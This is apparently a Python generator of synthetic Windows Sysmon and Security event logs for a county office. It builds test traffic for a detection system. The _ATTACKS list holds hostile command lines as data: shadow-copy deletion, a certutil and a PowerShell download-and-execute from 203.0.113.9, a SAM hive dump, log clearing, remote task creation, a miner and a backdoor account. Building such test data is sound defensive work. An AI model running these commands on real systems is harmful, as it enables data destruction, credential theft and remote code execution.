"""What the computers of an office report, made up: structured Windows events that never repeat, and now and then an attack.

Everything is made once, with marks of fixed length in it that the sender fills in; making events anew while sending would measure
the sender. Names end with `.example`, addresses are those for documentation and private networks.
"""

import random
import time
from collections.abc import Callable, Sequence

import orjson

POOL = 20_000
"""So many events are made; when they are used up they come again with other marks."""
_MARK = b"#~~~~~~#"
_STAMP = b"#####-stamp-of-now-####"
_SYSMON = {"Channel": "Microsoft-Windows-Sysmon/Operational", "Provider_Name": "Microsoft-Windows-Sysmon"}
_SECURITY = {"Channel": "Security", "Provider_Name": "Microsoft-Windows-Security-Auditing"}
_PROGRAMS = (
    ("C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", "Google LLC", "--type=renderer --lang=zh-CN"),
    ("C:\\Program Files (x86)\\Kingsoft\\WPS Office\\12.1.0\\office6\\wps.exe", "Kingsoft", "/prometheus /wps /t"),
    ("C:\\Program Files (x86)\\Kingsoft\\WPS Office\\12.1.0\\office6\\et.exe", "Kingsoft", "/et"),
    ("C:\\Program Files\\Tencent\\WeChat\\WeChat.exe", "Tencent", "-autorun"),
    ("C:\\Windows\\System32\\svchost.exe", "Microsoft Corporation", "-k netsvcs -p -s Schedule"),
    ("C:\\Windows\\System32\\taskhostw.exe", "Microsoft Corporation", "SYSTEM"),
    ("C:\\Windows\\System32\\SearchProtocolHost.exe", "Microsoft Corporation", "Global\\UsGthrFltPipeMssGthrPipe"),
    ("C:\\Windows\\System32\\backgroundTaskHost.exe", "Microsoft Corporation", "-ServerName:App.AppX"),
    ("D:\\办公系统\\client\\oaclient.exe", "某某科技", "--profile default"),
    ("D:\\app\\finance\\bin\\report.exe", "某某科技", "--month 2026-11"),
)
_SYSTEM, _SHELL = "C:\\Windows\\System32\\services.exe", "C:\\Windows\\explorer.exe"
_USERS = ("COUNTY\\zhangwei", "COUNTY\\lijing", "COUNTY\\wangfang", "NT AUTHORITY\\SYSTEM", "COUNTY\\svc_oa")
_NAMES = ("oa.county.example", "mail.county.example", "update.vendor.example", "www.news.example", "api.pay.example")
_POWERSHELL = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
_ATTACKS = (
    ("C:\\Windows\\System32\\vssadmin.exe", "vssadmin.exe delete shadows /all /quiet"),
    (
        "C:\\Windows\\System32\\certutil.exe",
        "certutil -urlcache -split -f http://203.0.113.9/{mark}.exe C:\\Users\\Public\\a.exe",
    ),
    ("C:\\Windows\\System32\\reg.exe", "reg save HKLM\\SAM C:\\Users\\Public\\{mark}.hiv"),
    ("C:\\Windows\\System32\\wevtutil.exe", "wevtutil cl Security"),
    (
        "C:\\Windows\\System32\\schtasks.exe",
        "schtasks /create /s 192.0.2.77 /tn {mark} /tr C:\\Users\\Public\\u.exe /sc once",
    ),
    ("C:\\Users\\Public\\miner.exe", "miner.exe -o stratum+tcp://pool.miner.example:3333 -u {mark} --donate-level 1"),
    ("C:\\Windows\\System32\\net.exe", "net user {mark} Passw0rd! /add"),
    (_POWERSHELL, "powershell IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/{mark}')"),
)


class Traffic:
    """Bodies of JSON lines. The same numbers give the same bodies but for the time of day.

    Event number n is an attack where n is a multiple of `interval`; each is on a computer of its own, so that each makes a warning of
    its own.
    """

    def __init__(self, interval: int, seed: int = 20261125, pool: int = POOL) -> None:
        chance = random.Random(seed)  # noqa: S311 -- traffic, not a secret
        self._interval = interval
        self._usual = [orjson.dumps(_stamped(chance)) for _ in range(pool)]
        self._attacks = [orjson.dumps(_attack(chance, image, command)) for image, command in _ATTACKS]

    def attacks(self, first: int, count: int) -> range:
        """The numbers of the attacks among the events from `first` on."""
        return range(-(-first // self._interval) * self._interval, first + count, self._interval)

    def body(self, first: int, count: int) -> bytes:
        """The events `first` to `first + count - 1`."""
        start = first % len(self._usual)
        lines = self._usual[start : start + count]
        while len(lines) < count:
            lines += self._usual[: count - len(lines)]
        for number in self.attacks(first, count):
            line = self._attacks[number // self._interval % len(self._attacks)]
            lines[number - first] = line.replace(b"pc-" + _MARK, asset_of(number).partition(".")[0].encode())
        body = b"\n".join(lines)
        return body.replace(_STAMP, _now()).replace(_MARK, b"%08x" % (first & 0xFFFFFFFF))


def asset_of(number: int) -> str:
    """The computer on which attack `number` happens: what its warning is about."""
    return f"pc-{number:08x}.county.example"


def _now() -> bytes:
    seconds, rest = divmod(time.time_ns(), 1_000_000_000)
    return f"{time.strftime('%Y-%m-%d %H:%M:%S', time.gmtime(seconds))}.{rest // 1_000_000:03d}".encode()


def _stamped(chance: random.Random) -> dict[str, object]:
    event = chance.choices(_MAKERS, _WEIGHTS)[0](chance)
    return {"UtcTime": _STAMP.decode(), **event, "Computer": f"pc-{chance.randrange(900):03d}.county.example"}


def _hex(chance: random.Random, digits: int) -> str:
    return f"{chance.getrandbits(4 * digits):0{digits}x}"


def _guid(chance: random.Random) -> str:
    return "{" + f"{_MARK.decode()}-{_hex(chance, 4)}-{_hex(chance, 4)}-{_hex(chance, 4)}-{_hex(chance, 12)}" + "}"


def _process(chance: random.Random, image: str, company: str, command: str) -> dict[str, object]:
    name = image.rpartition("\\")[2]
    parent = _SYSTEM if image.startswith("C:\\Windows\\System32\\s") else _SHELL
    hashes = f"MD5={_hex(chance, 24).upper()}{_MARK.decode()},SHA256={_hex(chance, 56).upper()}{_MARK.decode()}"
    return {
        **_SYSMON,
        "EventID": 1,
        "Image": image,
        "CommandLine": command,
        "ParentImage": parent,
        "ParentCommandLine": f"{parent} -p {_hex(chance, 6)}",
        "User": chance.choice(_USERS),
        "IntegrityLevel": chance.choice(("Medium", "High", "System")),
        "CurrentDirectory": image.rpartition("\\")[0] + "\\",
        "LogonId": f"0x{_hex(chance, 5)}",
        "ProcessId": chance.randrange(500, 60_000),
        "ParentProcessId": chance.randrange(500, 60_000),
        "ProcessGuid": _guid(chance),
        "ParentProcessGuid": _guid(chance),
        "Hashes": hashes,
        "OriginalFileName": name,
        "Description": name.partition(".")[0],
        "Company": company,
        "FileVersion": f"{chance.randrange(1, 30)}.{chance.randrange(90)}.{chance.randrange(9999)}.0",
    }


def _attack(chance: random.Random, image: str, command: str) -> dict[str, object]:
    """An attack as it is sent; the name of its computer carries a mark of its own."""
    event = _process(chance, image, "", command.replace("{mark}", _MARK.decode()))
    return {"UtcTime": _STAMP.decode(), **event, "Computer": f"pc-{_MARK.decode()}.county.example"}


def _started(c: random.Random) -> dict[str, object]:
    image, company, arguments = c.choice(_PROGRAMS)
    return _process(c, image, company, f'"{image}" {arguments} --session={_MARK.decode()}{_hex(c, 8)}')


def _about(c: random.Random, number: int) -> dict[str, object]:
    """What other Sysmon events say of the process that they are about."""
    return {
        **_SYSMON,
        "EventID": number,
        "Image": c.choice(_PROGRAMS)[0],
        "ProcessGuid": _guid(c),
        "ProcessId": c.randrange(500, 60_000),
        "User": c.choice(_USERS),
    }


def _connected(c: random.Random) -> dict[str, object]:
    name = c.choice(_NAMES)
    own = {
        "SourceIp": f"10.{c.randrange(16, 30)}.{c.randrange(256)}.{c.randrange(1, 255)}",
        "SourcePort": c.randrange(49_152, 65_536),
    }
    there = {"DestinationIp": f"198.51.100.{c.randrange(1, 60)}", "DestinationHostname": name, "DestinationPort": 443}
    return {**_about(c, 3), "Protocol": "tcp", "Initiated": "true", **own, **there}


def _loaded(c: random.Random) -> dict[str, object]:
    image = c.choice(_PROGRAMS)[0].rpartition("\\")[0] + f"\\module{c.randrange(400)}.dll"
    hashes = f"SHA256={_hex(c, 56).upper()}{_MARK.decode()}"
    signature = {"Signed": "true", "Signature": "Microsoft Windows", "SignatureStatus": "Valid"}
    return {**_about(c, 7), "ImageLoaded": image, "Hashes": hashes, **signature}


def _written(c: random.Random) -> dict[str, object]:
    folder = c.choice(("D:\\文档\\报表", "D:\\文档\\会议", "C:\\Program Files\\Common Files\\data"))
    return {
        **_about(c, 11),
        "TargetFilename": f"{folder}\\{_MARK.decode()}{_hex(c, 6)}.{c.choice(('docx', 'xlsx', 'tmp', 'pdf'))}",
    }


def _configured(c: random.Random) -> dict[str, object]:
    place = f"HKLM\\SOFTWARE\\Vendor\\Office\\{_hex(c, 4)}\\Recent\\{_MARK.decode()}"
    return {**_about(c, 13), "EventType": "SetValue", "TargetObject": place, "Details": f"DWORD (0x{_hex(c, 8)})"}


def _resolved(c: random.Random) -> dict[str, object]:
    answer = f"::ffff:198.51.100.{c.randrange(1, 60)};"
    return {
        **_about(c, 22),
        "QueryName": f"r{_MARK.decode()[1:-1]}.{c.choice(_NAMES)}",
        "QueryStatus": "0",
        "QueryResults": answer,
    }


def _signed_in(c: random.Random) -> dict[str, object]:
    return {
        **_SECURITY,
        "EventID": 4624,
        "TargetUserName": c.choice(_USERS).partition("\\")[2],
        "TargetDomainName": "COUNTY",
        "TargetLogonId": f"0x{_hex(c, 4)}{_MARK.decode()}",
        "LogonType": c.choice((3, 5, 7)),
        "LogonProcessName": "Kerberos",
        "AuthenticationPackageName": "Kerberos",
        "IpAddress": f"10.{c.randrange(16, 30)}.{c.randrange(256)}.{c.randrange(1, 255)}",
        "IpPort": c.randrange(49_152, 65_536),
    }


_MAKERS: Sequence[Callable[[random.Random], dict[str, object]]] = (
    _started,
    _connected,
    _loaded,
    _written,
    _configured,
    _resolved,
    _signed_in,
)
_WEIGHTS = (30, 15, 15, 12, 10, 10, 8)
